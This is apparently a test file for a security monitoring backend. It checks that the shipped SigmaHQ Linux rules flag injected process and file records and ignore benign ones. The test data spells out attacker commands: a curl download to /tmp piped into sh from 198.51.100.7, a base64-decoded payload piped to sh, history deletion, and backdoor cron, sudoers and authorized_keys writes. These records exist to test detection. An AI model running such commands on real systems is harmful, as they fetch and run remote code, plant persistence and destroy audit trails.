import t, { type Test } from 'tap'
import { join } from 'node:path'
import { packRecords, packValue } from '../../shared/codec.js'
import { createLogger } from '../../shared/logger.js'
import { CLASS } from '../../shared/ocsf/constants.js'
import { packLean } from '../../shared/ocsf/lean.js'
import { startBackend, type BackendHandle } from '../../backend/server.js'
import { AgentStream, connectCollector } from '../../scripts/injector/index.js'
import { SHIPPED_RULES, tempDir } from './helpers/records.js'

// The shipped SigmaHQ corpus through a real backend (collector, bridge,
// detection workers, store): process_activity and file_activity records in
// the OCSF shape the agent writes (the paths of the Sigma field map,
// backend/detection/rules/taxonomy.ts) raise the named SigmaHQ findings, in
// the full form and in the lean form. Each record below was built from the
// rule's YAML (backend/rules/sigmahq/rules/linux/...).

const T0 = Date.now()

interface Proc { pid: number, exe: string, cmd: string, ppid?: number, pexe?: string, gpid?: number, user?: string }

function base (host: string, cls: number, activity: number, i: number): Record<string, unknown> {
  return {
    class_uid: cls,
    activity_id: activity,
    time: T0 + i,
    severity_id: 1,
    device: { type_id: 1, uid: host, hostname: host },
    metadata: { version: '1.8.0', product: { name: 'Picket', vendor_name: 'Picket', version: 'test' } },
  }
}

function launch (host: string, i: number, p: Proc): Record<string, unknown> {
  const parent: Record<string, unknown> = { pid: p.ppid ?? 100, file: { path: p.pexe ?? '/usr/bin/bash' }, cmd_line: 'bash' }
  if (p.gpid !== undefined) parent.parent_process = { pid: p.gpid }
  return {
    ...base(host, CLASS.PROCESS_ACTIVITY.uid, 1, i),
    process: { pid: p.pid, file: { path: p.exe }, cmd_line: p.cmd, working_directory: '/root', parent_process: parent, user: { name: p.user ?? 'root' } },
    actor: { user: { name: p.user ?? 'root' } },
  }
}

function fileWrite (host: string, i: number, path: string, exe: string, activity = 1): Record<string, unknown> {
  return {
    ...base(host, CLASS.FILE_ACTIVITY.uid, activity, i),
    file: { path, name: path.slice(path.lastIndexOf('/') + 1), type_id: 1 },
    actor: { process: { pid: 500 + i, file: { path: exe }, cmd_line: exe, parent_process: { pid: 400 } }, user: { name: 'root' } },
  }
}

/** rule id prefix → the record that must raise it */
const CASES: Array<{ rule: string, what: string, rec: (host: string, i: number) => Record<string, unknown> }> = [
  { rule: 'ba592c6d', what: "sh -c 'echo ... | base64 -d | sh'", rec: (h, i) => launch(h, i, { pid: 1001, exe: '/usr/bin/dash', cmd: 'sh -c echo ZWNobyBwd25lZAo= | base64 -d | sh' }) },
  { rule: '6c4e2f43', what: 'a cron file written to /etc/cron.d', rec: (h, i) => fileWrite(h, i, '/etc/cron.d/backdoor', '/usr/bin/tee') },
  { rule: '6b14bac8', what: 'crontab loading a file from /tmp', rec: (h, i) => launch(h, i, { pid: 1002, exe: '/usr/bin/crontab', cmd: 'crontab /tmp/evil.cron' }) },
  { rule: 'ddb26b76', what: 'a file written to /etc/sudoers.d', rec: (h, i) => fileWrite(h, i, '/etc/sudoers.d/99-backdoor', '/usr/bin/cp') },
  { rule: '1182f3b3', what: 'shell history deleted', rec: (h, i) => launch(h, i, { pid: 1003, exe: '/usr/bin/rm', cmd: 'rm -f /root/.bash_history' }) },
  { rule: '3e102cd9', what: 'nmap run', rec: (h, i) => launch(h, i, { pid: 1004, exe: '/usr/bin/nmap', cmd: 'nmap -sT -p 1-1000 10.0.0.0/24' }) },
  { rule: 'a2d9e2f3', what: 'curl to /tmp run by sh -c', rec: (h, i) => launch(h, i, { pid: 1005, exe: '/usr/bin/dash', cmd: 'sh -c /usr/bin/curl -so /tmp/x http://198.51.100.7/x && sh /tmp/x' }) },
  { rule: '5f0c7a39', what: 'authorized_keys rewritten', rec: (h, i) => fileWrite(h, i, '/root/.ssh/authorized_keys', '/usr/bin/vim', 3) },
]

/** Records nothing should match: an ordinary ls, a file read in /etc/cron.d, an nmap that did not launch (activity Terminate). */
function benign (host: string, i: number): Array<Record<string, unknown>> {
  return [
    launch(host, i, { pid: 2001, exe: '/usr/bin/ls', cmd: 'ls -la /tmp' }),
    fileWrite(host, i + 1, '/etc/cron.d/backdoor', '/usr/bin/cat', 2),
    { ...launch(host, i + 2, { pid: 2002, exe: '/usr/bin/nmap', cmd: 'nmap localhost' }), activity_id: 2 },
  ]
}

/** A real backend (collector, bridge, `workers` detection workers, store) with the shipped rules, and a client of its collector. */
async function backend (t: Test, workers: number): Promise<{ be: BackendHandle, client: ReturnType<typeof connectCollector> }> {
  const tmp = tempDir('picket-sigma-')
  t.teardown(tmp.cleanup)
  const be = await startBackend({ listen: '127.0.0.1:0', db: join(tmp.dir, 'picket.db'), workers, console: false, rulesDir: SHIPPED_RULES, logger: createLogger('test-sigma', { level: 'error', pretty: false }) })
  t.teardown(be.close)
  const client = connectCollector(be.collector.address)
  t.teardown(() => client.close())
  return { be, client }
}

t.test('SigmaHQ rules raise their named findings from injected OCSF records, full and lean', async t => {
  const { be, client } = await backend(t, 2)

  const send = async (host: string, records: Array<Record<string, unknown>>, wire: 'full' | 'lean'): Promise<string> => {
    const s = new AgentStream(client, host)
    let status: string
    if (wire === 'full') status = (await s.send(packRecords(records), records.length)).status
    else {
      const lean = packLean(records)
      status = (await s.send(packValue(lean.records), records.length, records.length, packValue(lean.context))).status
    }
    await s.end()
    return status
  }

  for (const wire of ['full', 'lean'] as const) {
    const host = `sigma-${wire}`
    const records = CASES.map((c, i) => c.rec(host, i * 10))
    t.equal(await send(host, records, wire), 'OK', `${wire}: the batch is accepted`)
    t.equal(await send(`${host}-benign`, benign(`${host}-benign`, 0), wire), 'OK')
  }
  await be.flush()

  for (const wire of ['full', 'lean'] as const) {
    const host = `sigma-${wire}`
    const found = be.store.listFindings({ host, limit: 200 }).items
    for (const c of CASES) {
      const f = found.find(x => x.finding.finding_info.analytic?.uid?.startsWith(c.rule) === true)
      t.ok(f !== undefined, `${wire}: ${c.what} raises ${c.rule}`)
      if (f === undefined) continue
      t.equal(f.finding.finding_info.analytic?.uid?.length, 36, `${wire}: ${c.rule}: the rule's id is the analytic uid`)
      t.ok(f.finding.finding_info.title.length > 0 && f.finding.finding_info.title === f.title, `${wire}: ${c.rule}: titled '${f.title}'`)
      t.ok((f.finding.finding_info.attacks ?? []).length > 0, `${wire}: ${c.rule}: tags become attacks (${(f.finding.finding_info.attacks ?? []).map(a => `${a.technique.uid}/${a.tactic?.uid ?? '-'}`).join(' ')})`)
    }
    const akeys = found.find(x => x.rule === 'picket_t1098_004_authorized_keys')
    t.same(akeys?.finding.finding_info.attacks?.map(a => [a.technique.uid, a.tactic?.uid]), [['T1098.004', 'TA0003']], 'authorized_keys: T1098.004, persistence')
    t.equal(akeys?.finding.finding_info.data_sources?.[0], 'file_activity')
    const nmap = found.find(x => x.rule.startsWith('3e102cd9'))
    const group = (nmap?.finding.unmapped?.picket as { group?: Record<string, unknown> } | undefined)?.group
    t.equal(group?.['process.cmd_line'], 'nmap -sT -p 1-1000 10.0.0.0/24', 'the finding names the command line')
    t.equal(group?.process_tree_root, 100, 'and the process-tree root (the parent pid: the record names no grandparent)')
    t.same(be.store.listFindings({ host: `${host}-benign`, limit: 50 }).items.map(f => f.rule), [], `${wire}: ordinary records raise nothing`)
  }
})

t.test('a loop raises one finding per process tree, updated as it recurs', async t => {
  const { be, client } = await backend(t, 1)
  const host = 'sigma-loop'
  const s = new AgentStream(client, host)
  // a shell loop under one session (grandparent 77) runs nmap 500 times; another session (88) runs it once
  for (let b = 0; b < 5; b++) {
    const recs = Array.from({ length: 100 }, (_, j) => launch(host, b * 100 + j, { pid: 3000 + b * 100 + j, exe: '/usr/bin/nmap', cmd: 'nmap 10.0.0.1', ppid: 300, gpid: 77 }))
    if (b === 4) recs.push(launch(host, 999, { pid: 5000, exe: '/usr/bin/nmap', cmd: 'nmap 10.0.0.2', ppid: 400, gpid: 88 }))
    t.equal((await s.send(packRecords(recs), recs.length)).status, 'OK')
  }
  await s.end()
  await be.flush()
  const found = be.store.listFindings({ host, limit: 50 }).items.filter(f => f.rule.startsWith('3e102cd9'))
  const byRoot = new Map(found.map(f => [(f.finding.unmapped?.picket as { group: Record<string, unknown> }).group.process_tree_root, f.records]))
  t.equal(found.length, 2, 'two process trees, two findings (not 501)')
  t.equal(byRoot.get(77), 500, 'the loop\'s finding counts all 500 runs')
  t.equal(byRoot.get(88), 1)
})
